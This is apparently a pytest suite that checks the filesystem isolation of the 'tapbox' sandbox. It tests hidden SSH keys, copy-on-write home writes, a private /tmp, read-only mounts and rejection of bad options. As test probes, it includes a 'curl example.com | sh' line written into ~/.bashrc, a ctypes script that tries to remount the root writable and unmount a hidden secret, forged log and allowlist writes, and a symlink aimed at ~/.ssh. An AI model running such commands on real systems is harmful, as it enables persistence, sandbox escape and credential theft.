"""The sandbox's filesystem (issue 9), end to end through the CLI, as root and as an
unprivileged uid: what the default view (--fs project) shows, hides and keeps; --fs host;
every path and environment option; bad option values.

Each test builds a small world in the host's /tmp (reachable by the unprivileged uid, unlike
pytest's tmp_path): a home with a ~/.bashrc, a ~/.ssh/id_test and a Unix socket, a project
directory the command runs in, an $XDG_RUNTIME_DIR with a socket, and a socket in /tmp itself.
Unix socket servers listen on each (mode 0777, so any uid could connect on the host) and count
who connects. The command is tests/sandbox_tools/fs_probe.py, which reports what it found as
JSON; every check compares with the host's side of the same thing.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import fakenet as fn
import pytest
from conftest import TESTS_DIR, RunTapbox, setpriv_prefix, tapbox_env
from test_e2e import NOBODY, rootless_problems

PY = sys.executable
PROBE = TESTS_DIR / "sandbox_tools" / "fs_probe.py"
SHORT = 60.0
USERS = [pytest.param(None, id="root"), pytest.param(NOBODY, id="unprivileged")]


class SocketServer:
    """A Unix stream socket at `path` that greets and counts whoever connects."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.accepted = 0
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.bind(str(path))
        os.chmod(path, 0o777)
        self.sock.listen(8)
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            with conn:
                conn.sendall(b"hello from the host")

    def close(self) -> None:
        self.sock.close()


@dataclass
class World:
    root: Path
    home: Path
    proj: Path
    runtime: Path
    uid: int
    servers: dict[str, SocketServer] = field(default_factory=dict)

    def env(self, **extra: str) -> dict[str, str]:
        return {"HOME": str(self.home), "XDG_RUNTIME_DIR": str(self.runtime),
                "SSH_AUTH_SOCK": str(self.runtime / "agent.sock"),
                "DBUS_SESSION_BUS_ADDRESS": f"unix:path={self.runtime}/bus",
                "DISPLAY": ":0", "WAYLAND_DISPLAY": "wayland-0", **extra}

    def chown(self, *paths: Path) -> None:
        for path in paths:
            os.chown(path, self.uid, self.uid)


def make_world(uid: int) -> World:
    root = Path(tempfile.mkdtemp(prefix="tapbox-fs-"))  # in the host's /tmp
    root.chmod(0o755)
    world = World(root, root / "home", root / "proj", root / "runtime", uid)
    for d in (world.home, world.home / ".ssh", world.proj, world.runtime):
        d.mkdir()
    world.runtime.chmod(0o700)
    (world.home / ".ssh").chmod(0o700)
    (world.home / ".bashrc").write_text("# the original\n")
    (world.home / ".ssh" / "id_test").write_text("SECRET KEY\n")
    (world.proj / "README").write_text("the project\n")
    (root / "host-tmp-marker").write_text("the host's /tmp\n")
    for name, path in (("tmp", root / "tmp.sock"), ("runtime", world.runtime / "agent.sock"),
                       ("home", world.home / "home.sock")):
        world.servers[name] = SocketServer(path)
    for path in (world.home, world.home / ".ssh", world.home / ".ssh" / "id_test",
                 world.home / ".bashrc", world.proj, world.proj / "README", world.runtime,
                 *(s.path for s in world.servers.values())):
        world.chown(path)
    return world


@pytest.fixture(params=USERS)
def world(request: pytest.FixtureRequest) -> Iterator[World]:
    user = request.param
    if user is not None:
        if fn.netns_state().mode != "root":
            pytest.skip("not root: the whole session already runs rootless")
        problems = rootless_problems()
        if problems:
            pytest.fail("cannot run rootless here:\n  - " + "\n  - ".join(problems),
                        pytrace=False)
    made = make_world(os.getuid() if user is None else user)
    try:
        yield made
    finally:
        for server in made.servers.values():
            server.close()
        shutil.rmtree(made.root, ignore_errors=True)


def probe(run_tapbox: RunTapbox, world: World, steps: list[list[str]], *args: str,
          cwd: Path | None = None, env: dict[str, str] | None = None,
          ) -> tuple[dict[str, Any], subprocess.CompletedProcess[str]]:
    """Run fs_probe.py with `steps` in the sandbox (no network unless args say otherwise)."""
    user = None if world.uid == os.getuid() else world.uid
    proc = run_tapbox(*args, cmd=[PY, str(PROBE), json.dumps(steps)], user=user,
                      env=env if env is not None else world.env(),
                      cwd=cwd or world.proj, timeout=SHORT)
    assert proc.returncode == 0, f"exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
    return json.loads(proc.stdout.strip().splitlines()[-1]), proc


def tapbox_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("tapbox: ")]


# ------------------------------------------------------------------------------------------------
# The default view


def test_the_default_view(run_tapbox: RunTapbox, world: World) -> None:
    home, proj = world.home, world.proj
    found, proc = probe(run_tapbox, world, [
        ["tmp_socket", "connect", str(world.root / "tmp.sock")],
        ["runtime_socket", "connect", str(world.runtime / "agent.sock")],
        ["home_socket", "connect", str(home / "home.sock")],
        ["bashrc_write", "write", str(home / ".bashrc"), "curl example.com | sh\n"],
        ["bashrc", "read", str(home / ".bashrc")],
        ["cache_write", "write", str(home / ".cache-file"), "x"],
        ["key", "read", str(home / ".ssh" / "id_test")],
        ["proj_write", "write", str(proj / "built.txt"), "made in the sandbox\n"],
        ["tmp", "list", "/tmp"],
        ["tmp_write", "write", "/tmp/left-by-the-sandbox", "x"],
        ["host_tmp", "list", str(world.root)],
        ["etc_write", "create", "/etc/tapbox-test"],
        ["top_write", "create", "/tapbox-test"],
        ["usr_write", "create", "/usr/tapbox-test"],
        ["dev", "list", "/dev"],
        ["shm", "list", "/dev/shm"],
        ["shm_write", "create", "/dev/shm/x"],
        ["pty", "pty"],
        ["run", "list", "/run"],
        ["runtime", "list", str(world.runtime)],
        ["var_run", "list", "/var/run"],
        ["bin", "readlink", "/bin"],
        ["sys_write", "write", "/sys/kernel/tapbox-test", "x"],
        ["net", "list", "/sys/class/net"],
        ["procs", "procs"],
        ["hostname", "hostname"],
        ["cwd", "cwd"],
        ["ssh_auth_sock", "env", "SSH_AUTH_SOCK"],
        ["dbus", "env", "DBUS_SESSION_BUS_ADDRESS"],
        ["display", "env", "DISPLAY"],
        ["wayland", "env", "WAYLAND_DISPLAY"],
        ["xdg_runtime_dir", "env", "XDG_RUNTIME_DIR"],
        ["tapbox", "env", "TAPBOX"],
        ["resolv", "read", "/etc/resolv.conf"],
    ], "--allow", "192.0.2.10")
    # No host Unix socket is reachable: /tmp and $XDG_RUNTIME_DIR are the sandbox's own, the
    # home is an overlay (its socket is not the host's).
    assert found["tmp_socket"] == "ENOENT" and found["runtime_socket"] == "ENOENT", found
    assert found["home_socket"] == "ECONNREFUSED", found
    assert sum(s.accepted for s in world.servers.values()) == 0
    # ~/.bashrc: the command sees its write, the host's file is untouched, and tapbox says so
    assert found["bashrc_write"] == "ok" and found["bashrc"].endswith("curl example.com | sh\n")
    assert (home / ".bashrc").read_text() == "# the original\n"
    assert not (home / ".cache-file").exists()
    assert ("tapbox: 2 files written in your home were discarded (~/.bashrc: 1, ~/.cache-file: "
            "1): the sandbox's home is copy-on-write; keep such changes next time with --write "
            "~/.bashrc, or review them before they are kept with --fs overlay") in proc.stderr, \
        proc.stderr
    assert found["key"] in ("EACCES", "ENOENT"), found  # hidden: an empty, closed directory
    # the working directory is the host's, writable
    assert found["cwd"] == str(proj) and found["proj_write"] == "ok"
    assert (proj / "built.txt").read_text() == "made in the sandbox\n"
    # /tmp is the sandbox's own: the host's files are not there, and nothing comes back
    assert "host-tmp-marker" not in found["tmp"] and found["tmp_write"] == "ok"
    assert not Path("/tmp/left-by-the-sandbox").exists()
    assert "host-tmp-marker" not in found["host_tmp"]
    # the rest of the host is read-only
    assert found["etc_write"] == "EROFS" and found["usr_write"] == "EROFS"
    assert found["top_write"] == "EROFS"  # the new root itself
    assert found["sys_write"] in ("EROFS", "EACCES"), found
    # a minimal /dev with a new devpts; a private /dev/shm; /run and $XDG_RUNTIME_DIR empty
    assert set(found["dev"]) <= {"null", "zero", "full", "random", "urandom", "tty", "pts",
                                 "ptmx", "fd", "stdin", "stdout", "stderr", "shm"}, found["dev"]
    assert {"null", "zero", "urandom", "pts", "ptmx", "shm"} <= set(found["dev"])
    assert found["shm"] == [] and found["shm_write"] == "ok" and found["pty"] == "ok"
    assert found["runtime"] == [] and found["xdg_runtime_dir"] == str(world.runtime)
    assert "agent.sock" not in found["var_run"]
    assert set(found["run"]) <= {"user", "systemd", "tmp"}, found["run"]  # mount points only
    if os.path.islink("/bin"):
        assert found["bin"] == os.readlink("/bin")
    assert found["net"] == ["lo", "tap0"]
    assert found["resolv"].startswith("nameserver 10.0.2.3\n")
    # process isolation as before
    assert found["hostname"] == "tapbox"
    assert set(found["procs"]) <= {"tapbox-init", "python3", "python", PY.rsplit("/", 1)[-1]}
    assert len(found["procs"]) == 2, found["procs"]
    # the environment names no hidden socket
    for name in ("ssh_auth_sock", "dbus", "display", "wayland"):
        assert found[name] is None, (name, found)
    assert found["tapbox"] == "1"


def test_fs_host_restores_todays_view(run_tapbox: RunTapbox, world: World) -> None:
    home = world.home
    found, proc = probe(run_tapbox, world, [
        ["tmp_socket", "connect", str(world.root / "tmp.sock")],
        ["home_socket", "connect", str(home / "home.sock")],
        ["bashrc_write", "write", str(home / ".bashrc"), "appended\n"],
        ["key", "read", str(home / ".ssh" / "id_test")],
        ["host_tmp", "list", str(world.root)],
        ["ssh_auth_sock", "env", "SSH_AUTH_SOCK"],
        ["procs", "procs"],
        ["hostname", "hostname"],
    ], "-n", "--fs", "host")
    assert found["tmp_socket"] == "connected hello from the host", found
    assert found["home_socket"] == "connected hello from the host", found
    assert (home / ".bashrc").read_text() == "# the original\nappended\n"
    assert found["key"] == "SECRET KEY\n" and "host-tmp-marker" in found["host_tmp"]
    assert found["ssh_auth_sock"] == str(world.runtime / "agent.sock")
    # the PID, IPC and UTS namespaces stay (and the terminal filter: test_terminal.py)
    assert found["hostname"] == "tapbox" and len(found["procs"]) == 2, found
    assert "discarded" not in proc.stderr


def test_record_files_are_not_writable_from_inside(run_tapbox: RunTapbox,
                                                   world: World) -> None:
    """The log in the (writable) working directory, the capture in a --write directory, the
    learned allowlist in the copy-on-write home: none can be changed from inside."""
    rec = world.root / "rec"
    rec.mkdir()
    world.chown(rec)
    log, pcap, learn = world.proj / "run.jsonl", rec / "run.pcap", world.home / "learned.allow"
    found, _ = probe(run_tapbox, world, [
        ["log", "write", str(log), "forged\n"], ["pcap", "write", str(pcap), "forged"],
        ["learn", "write", str(learn), "0.0.0.0/0\n"],
        ["beside", "create", str(world.proj / "beside")]],
        "--log", "run.jsonl", "--pcap", str(pcap), "--learn", str(learn),
        "--write", str(rec))
    assert found["log"] == "EROFS" and found["pcap"] == "EROFS", found
    assert found["learn"] in ("EROFS", "ok"), found  # "ok": into the home's throwaway layer
    assert found["beside"] == "ok"  # the directory itself stays writable
    # (the command line, in the log and the learned file's header, says "forged" itself)
    events = [json.loads(line) for line in log.read_text().splitlines()]  # each line an event
    assert events[0]["event"] == "start" and events[-1]["event"] == "exit"
    assert not pcap.read_bytes().endswith(b"forged")
    if learn.exists():
        assert [ln for ln in learn.read_text().splitlines() if not ln.startswith("#")] == []


def test_fs_host_applies_the_path_options(run_tapbox: RunTapbox, world: World) -> None:
    found, _ = probe(run_tapbox, world, [
        ["key", "read", str(world.home / ".ssh" / "id_test")],
        ["bashrc", "read", str(world.home / ".bashrc")],
        ["bashrc_write", "write", str(world.home / ".bashrc"), "x"],
    ], "-n", "--fs", "host", "--hide", "~/.ssh", "--hide", "~/.bashrc")
    assert found["key"] in ("EACCES", "ENOENT") and found["bashrc"] in ("EACCES", ""), found
    assert found["bashrc_write"] in ("EROFS", "EACCES"), found
    assert (world.home / ".bashrc").read_text() == "# the original\n"
    assert not [p for p in os.listdir(world.runtime) if p.startswith("tapbox-")]  # removed


# ------------------------------------------------------------------------------------------------
# The options


def test_write_read_hide_tmpfs(run_tapbox: RunTapbox, world: World) -> None:
    home, proj = world.home, world.proj
    data = world.root / "data"
    for d in (data, proj / "cache", proj / ".git", proj / "private"):
        d.mkdir()
    (proj / "cache" / "old").write_text("old cache\n")
    (proj / ".git" / "config").write_text("[core]\n")
    (proj / "private" / "notes").write_text("private\n")
    (proj / ".env").write_text("TOKEN=x\n")
    world.chown(data, proj / "cache", proj / ".git", proj / "private")
    found, _ = probe(run_tapbox, world, [
        ["data_write", "write", str(data / "out"), "kept\n"],
        ["key", "read", str(home / ".ssh" / "id_test")],
        ["key_write", "write", str(home / ".ssh" / "id_test"), "x"],
        ["git_config", "read", str(proj / ".git" / "config")],
        ["git_hook", "create", str(proj / ".git" / "hook")],
        ["proj_write", "create", str(proj / "new")],
        ["private", "list", str(proj / "private")],
        ["env_file", "read", str(proj / ".env")],
        ["cache", "list", str(proj / "cache")],
        ["cache_write", "write", str(proj / "cache" / "new"), "x"],
    ], "-n", "--write", str(data), "--read", "~/.ssh", "--read", str(proj / ".git"),
        "--hide", str(proj / "private"), "--hide", str(proj / ".env"),
        "--tmpfs", str(proj / "cache"))
    assert found["data_write"] == "ok" and (data / "out").read_text() == "kept\n"
    assert found["key"] == "SECRET KEY\n" and found["key_write"] == "EROFS"  # shown read-only
    assert found["git_config"] == "[core]\n" and found["git_hook"] == "EROFS"
    assert found["proj_write"] == "ok"  # the rest of the project stays writable
    assert found["private"] in ("EACCES", []) and found["env_file"] in ("EACCES", ""), found
    assert found["cache"] == [] and found["cache_write"] == "ok"
    assert sorted(os.listdir(proj / "cache")) == ["old"]  # the tmpfs was discarded


def test_dev_net_tun_only_if_asked(run_tapbox: RunTapbox, world: World) -> None:
    steps = [["net", "list", "/dev/net"]]
    found, _ = probe(run_tapbox, world, steps, "-n")
    assert found["net"] == "ENOENT"
    found, _ = probe(run_tapbox, world, steps, "-n", "--write", "/dev/net/tun")
    assert found["net"] == ["tun"]


def test_root_inside_the_default_view(run_tapbox: RunTapbox, world: World) -> None:
    """--root: uid 0 inside, the same view; what it writes in the working directory belongs to
    the caller on the host."""
    found, proc = probe(run_tapbox, world, [
        ["write", "create", "by-root"], ["bashrc", "write", str(world.home / ".bashrc"), "x"],
        ["etc", "create", "/etc/by-root"]], "-n", "--root")
    assert (found["write"], found["bashrc"], found["etc"]) == ("ok", "ok", "EROFS")
    assert (world.proj / "by-root").stat().st_uid == world.uid
    assert (world.home / ".bashrc").read_text() == "# the original\n"
    assert "1 file written to ~/.bashrc was discarded" in proc.stderr


def test_later_options_win(run_tapbox: RunTapbox, world: World) -> None:
    proj = world.proj
    (proj / ".git").mkdir()
    world.chown(proj / ".git")
    steps = [["hook", "create", str(proj / ".git" / "hook")]]
    found, _ = probe(run_tapbox, world, steps, "-n", "--read", str(proj / ".git"),
                     "--write", str(proj))
    assert found["hook"] == "ok"  # --write PROJ came later and covers .git
    found, _ = probe(run_tapbox, world, [["hook2", "create", str(proj / ".git" / "hook2")]],
                     "-n", "--write", str(proj), "--read", str(proj / ".git"))
    assert found["hook2"] == "EROFS"


def test_writing_the_home_keeps_secrets_hidden(run_tapbox: RunTapbox, world: World) -> None:
    found, proc = probe(run_tapbox, world, [
        ["bashrc_write", "write", str(world.home / ".bashrc"), "kept\n"],
        ["key", "read", str(world.home / ".ssh" / "id_test")],
    ], "-n", "--write", "~")
    assert found["bashrc_write"] == "ok"
    assert (world.home / ".bashrc").read_text() == "# the original\nkept\n"
    assert found["key"] in ("EACCES", "ENOENT"), found
    assert "discarded" not in proc.stderr


def test_environment_options(run_tapbox: RunTapbox, world: World) -> None:
    env = world.env(EDITOR="vi", LANG="C.UTF-8", LC_ALL="C", TZ="UTC")
    found, _ = probe(run_tapbox, world, [["names", "env-names"], ["lang", "env", "LANG"],
                                         ["added", "env", "ADDED"]],
                     "-n", "--clearenv", "--unsetenv", "TZ", "--setenv", "LANG=fr_FR.UTF-8",
                     "--setenv", "ADDED=a=b", env=env)
    assert found["lang"] == "fr_FR.UTF-8" and found["added"] == "a=b"
    assert set(found["names"]) <= {"PATH", "HOME", "TERM", "LANG", "LC_ALL", "USER", "SHELL",
                                   "ADDED", "XDG_RUNTIME_DIR", "TAPBOX"}, found["names"]
    assert {"HOME", "LC_ALL", "ADDED", "TAPBOX"} <= set(found["names"])
    found, _ = probe(run_tapbox, world, [["editor", "env", "EDITOR"],
                                         ["display", "env", "DISPLAY"]],
                     "-n", "--fs", "host", "--unsetenv", "EDITOR", env=env)
    assert found == {"editor": None, "display": ":0"}  # --fs host keeps the rest as it is


@pytest.mark.parametrize("args, message", [
    (["--fs", "cow"], "argument --fs: invalid choice: 'cow'"),
    (["--on-exit", "keep"], "--on-exit is for the copy-on-write view: add --fs overlay"),
    (["--setenv", "NOVALUE"], "--setenv 'NOVALUE': expected VAR=VALUE"),
    (["--unsetenv", "A=B"], "--unsetenv 'A=B': a variable name cannot contain '='"),
    (["--write", ""], "--write: empty path"),
    (["--write", "/nonexistent/tapbox-test"], "tapbox: --write /nonexistent/tapbox-test: No "
                                              "such file or directory: give a path that exists"),
    (["--read", "/nonexistent/tapbox-test"], "tapbox: --read /nonexistent/tapbox-test: No such"),
    (["--tmpfs", "README"], "tapbox: --tmpfs README: not a directory"),
    (["--hide", "/"], "tapbox: --hide /: not for the whole filesystem: use --fs host"),
])
def test_bad_option_values_stop_tapbox_before_the_command(run_tapbox: RunTapbox, world: World,
                                                          args: list[str], message: str) -> None:
    marker = world.proj / "ran"
    user = None if world.uid == os.getuid() else world.uid
    proc = run_tapbox("-n", *args, cmd=["touch", str(marker)], user=user, env=world.env(),
                      cwd=world.proj, timeout=SHORT)
    assert proc.returncode == 125, proc.stderr
    assert message in proc.stderr, proc.stderr
    assert not marker.exists()


def test_a_symlink_in_the_project_cannot_show_a_secret(run_tapbox: RunTapbox,
                                                       world: World) -> None:
    """A repository that ships `.git -> ~/.ssh` does not get ~/.ssh writable from a user's
    `--write .git`: tapbox stops and says why."""
    (world.proj / ".git").symlink_to(world.home / ".ssh")
    marker = world.proj / "ran"
    user = None if world.uid == os.getuid() else world.uid
    proc = run_tapbox("-n", "--write", ".git", cmd=["touch", str(marker)], user=user,
                      env=world.env(), cwd=world.proj, timeout=SHORT)
    assert proc.returncode == 125 and not marker.exists(), proc.stderr
    assert f"tapbox: --write .git: it leads through a symlink to {world.home}/.ssh, which is " \
           "hidden" in proc.stderr


NESTED = """
import ctypes, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def call(rc):
    return os.strerror(ctypes.get_errno()) if rc else "done"
out = {}
# a user and mount namespace of the command's own, where it holds every capability
out["unshare"] = call(libc.unshare(0x10000000 | 0x00020000))
for name, path in (("etc", b"/etc"), ("root", b"/")):  # MS_REMOUNT | MS_BIND, no MS_RDONLY
    out["remount_" + name] = call(libc.mount(None, path, None, 0x20 | 0x1000, None))
out["umount_secret"] = call(libc.umount2(sys.argv[1].encode(), 2))
try:
    open("/etc/tapbox-test", "w")
    out["etc_write"] = "done"
except OSError as e:
    out["etc_write"] = e.strerror
try:
    out["secret"] = open(sys.argv[2]).read()
except OSError as e:
    out["secret"] = e.strerror
print(json.dumps(out))
"""


def test_the_view_cannot_be_undone_from_inside(run_tapbox: RunTapbox, world: World) -> None:
    """In a user and mount namespace of its own, the command has every capability, but the
    view's mounts came locked with it: no remounting writable, no unmounting a hidden path."""
    user = None if world.uid == os.getuid() else world.uid
    proc = run_tapbox("-n", "--root", cmd=[PY, "-c", NESTED, str(world.home / ".ssh"),
                                           str(world.home / ".ssh" / "id_test")],
                      user=user, env=world.env(), cwd=world.proj, timeout=SHORT)
    assert proc.returncode == 0, proc.stderr
    found = json.loads(proc.stdout)
    assert found["unshare"] == "done", found
    for name in ("remount_etc", "remount_root"):
        assert found[name] in ("Operation not permitted", "Invalid argument"), found
    assert found["etc_write"] == "Read-only file system", found
    assert found["umount_secret"] == "Invalid argument", found  # locked with what it covers
    assert found["secret"] != "SECRET KEY\n", found


def test_a_tapbox_inside_the_default_view_keeps_the_secrets_hidden(run_tapbox: RunTapbox,
                                                                   world: World) -> None:
    """A hidden file is an empty file nobody unlinks, so a nested tapbox (issue 12 takes
    nesting further) can build its own view over the outer one's."""
    netrc = world.home / ".netrc"
    netrc.write_text("machine example.com password hunter2\n")
    world.chown(netrc)
    user = None if world.uid == os.getuid() else world.uid
    inner = [PY, "-m", "tapbox", "-n", "--", PY, str(PROBE),
             json.dumps([["netrc", "read", str(netrc)], ["procs", "procs"]])]
    proc = run_tapbox("-n", cmd=inner, user=user, env=world.env(), cwd=world.proj,
                      timeout=SHORT)
    assert proc.returncode == 0, proc.stderr
    found = json.loads(proc.stdout.strip().splitlines()[-1])
    assert found["netrc"] in ("", "EACCES") and len(found["procs"]) == 2, found


# ------------------------------------------------------------------------------------------------
# Where the command runs


def test_the_working_directory_home_or_root_is_not_made_writable(run_tapbox: RunTapbox,
                                                                  world: World) -> None:
    found, proc = probe(run_tapbox, world, [["write", "create", "here"]], "-n", cwd=world.home)
    assert found["write"] == "ok"  # into the copy-on-write home
    assert not (world.home / "here").exists()
    lines = tapbox_lines(proc.stderr)
    assert lines[0] == ("tapbox: the working directory ~ is your home: it stays copy-on-write "
                        "(writes are discarded at exit); keep them with --write ~"), lines
    assert "1 file written to ~/here was discarded" in lines[1], lines
    found, proc = probe(run_tapbox, world, [["write", "create", "/here"]], "-n", cwd=Path("/"))
    assert found["write"] == "EROFS"
    assert tapbox_lines(proc.stderr) == [
        "tapbox: the working directory / is not made writable (the sandbox sees the host "
        "read-only): name what the command may write with --write PATH"]
    _, proc = probe(run_tapbox, world, [], "-n", "-q", cwd=world.home)
    assert tapbox_lines(proc.stderr) == []  # -q: no notice


def test_a_working_directory_the_options_cover_up_stops_tapbox(run_tapbox: RunTapbox,
                                                                world: World) -> None:
    sub = world.home / "sub"
    sub.mkdir()
    world.chown(sub)
    marker = world.root / "ran"
    user = None if world.uid == os.getuid() else world.uid
    proc = run_tapbox("-n", "--tmpfs", "~", cmd=["touch", str(marker)], user=user,
                      env=world.env(), cwd=sub, timeout=SHORT)
    assert proc.returncode == 125 and not marker.exists(), proc.stderr
    assert proc.stderr.strip() == (
        f"tapbox: the working directory {sub} is not in the sandbox (No such file or "
        "directory): it is hidden or below a --tmpfs; run tapbox from another directory or "
        "show it with --read/--write")


def test_odd_bytes_in_paths(run_tapbox: RunTapbox, world: World) -> None:
    """Spaces, a newline, an escape and a byte that is not UTF-8, in the working directory, in
    the home directory and in a --write path."""
    odd = "a b\nc\x1b[2J\udcff"
    proj = world.root / f"proj {odd}"
    home = world.root / f"home {odd}"
    other = world.root / f"other {odd}"
    for d in (proj, home, other):
        d.mkdir()
        world.chown(d)
    found, proc = probe(run_tapbox, world, [
        ["cwd", "cwd"],
        ["proj", "create", "made"],
        ["other", "create", str(other / "made")],
        ["home", "create", str(home / "made")],
    ], "-n", "-v", "--write", str(other), cwd=proj, env=world.env(HOME=str(home)))
    assert found == {"cwd": str(proj), "proj": "ok", "other": "ok", "home": "ok"}, found
    assert (proj / "made").exists() and (other / "made").exists()
    assert not (home / "made").exists()
    assert "\x1b" not in proc.stderr and "\\x1b[2J" in proc.stderr  # -v escapes the plan


# ------------------------------------------------------------------------------------------------
# A mount the view needs is refused


REFUSING = """
import errno, os, sys
from tapbox.isolate import seccomp as sc
# as a container's seccomp profile would: mount_setattr(2) refused (ENOSYS: "unknown to me")
policy = sc.Policy(sc.Allow(), (sc.Rule("mount_setattr", sc.Errno(int(sys.argv[1]))),))
assert sc.compile_filter(policy).load() == 0
os.execv(sys.executable, [sys.executable, "-m", "tapbox", *sys.argv[2:]])
"""


@pytest.mark.parametrize("err, expected", [
    (errno.ENOSYS, "Function not implemented: the sandbox's view needs Linux 5.12 or later "
                   "(mount_setattr): upgrade, or run with --fs host"),
    (errno.EPERM, "Operation not permitted: mounting is forbidden here (a container without "
                  "mount rights, a security module or a seccomp profile?): run tapbox on the "
                  "host, or with --fs host"),
])
def test_a_refused_mount_stops_tapbox_with_one_line(world: World, err: int,
                                                    expected: str) -> None:
    """Never less isolation than asked: the command does not run; the line names the mount,
    the reason and the fix. --fs host (which needs no read-only tree) then runs."""
    marker = world.proj / "ran"
    prefix = [] if world.uid == os.getuid() else setpriv_prefix(world.uid)
    for view, status in (("project", 125), ("host", 0)):
        proc = subprocess.run(
            [*prefix, PY, "-c", REFUSING, str(err), "-n", "--fs", view, "--", "touch",
             str(marker)], cwd=world.proj, env=tapbox_env(world.env()), capture_output=True,
            text=True, timeout=SHORT)
        assert proc.returncode == status, (view, proc.stderr)
        if view == "project":
            lines = proc.stderr.strip().splitlines()
            assert len(lines) == 1 and lines[0].startswith("tapbox: making /"), proc.stderr
            assert lines[0].endswith(f"read-only: {expected}"), lines[0]
            assert not marker.exists()
    assert marker.exists()  # --fs host ran it


# ------------------------------------------------------------------------------------------------
# Other filesystems on the host's side: another filesystem, a bind, a mount below the home,
# an automount, FUSE (tests/sandbox_tools/mount_world.py, in a mount namespace of its own)


def test_other_filesystems_binds_automounts_and_fuse(world: World) -> None:
    if os.getuid() != 0 or shutil.which("unshare") is None:
        pytest.fail("this test needs root and unshare(1) (util-linux) for a mount namespace",
                    pytrace=False)
    (world.root / "data").mkdir()
    world.chown(world.root / "data")
    helper = TESTS_DIR / "sandbox_tools" / "mount_world.py"
    proc = subprocess.run(
        ["unshare", "-m", "--propagation", "private", PY, str(helper), str(world.root),
         str(world.uid)], env=tapbox_env(), capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    # tapbox's start-up asks the automounter for nothing: it reads only the top of /
    assert (result["startup_exit"], result["startup"]) == (0, []), result
    found = result["otherfs"]
    # the working directory on another filesystem is the host's, writable
    assert found["cwd"] == "/mnt/otherfs/proj" and found["write"] == "ok", result
    assert result["otherfs_made"]
    # a mount below the home shows through its copy-on-write overlay, read-only
    assert found["usb"] == "on the usb stick\n" and found["usb_write"] == "EROFS", found
    # an automount made before tapbox started is there; a new lookup reaches the host's
    # automounter, which answers (here: no such entry) instead of leaving the sandbox hanging
    assert found["ready"] == "mounted before tapbox started\n", found
    assert found["later"] == "ENOENT" and result["requests_during_probe"] == ["later"], result
    # a working directory below a bind mount whose source the sandbox does not see (/tmp)
    assert result["bound"] == {"cwd": "/mnt/bound", "write": "ok"} and result["bound_made"]
    # a home and a working directory on FUSE: the home is copy-on-write over it, the working
    # directory is the FUSE filesystem itself (read-only, as that one is)
    assert result["fuse"] == {"cwd": "/mnt/fuse/home/proj", "readme": "the project, on FUSE\n",
                              "write": "EROFS", "bashrc_write": "ok",
                              "bashrc": "# the original\nappended\n"}, result["fuse"]
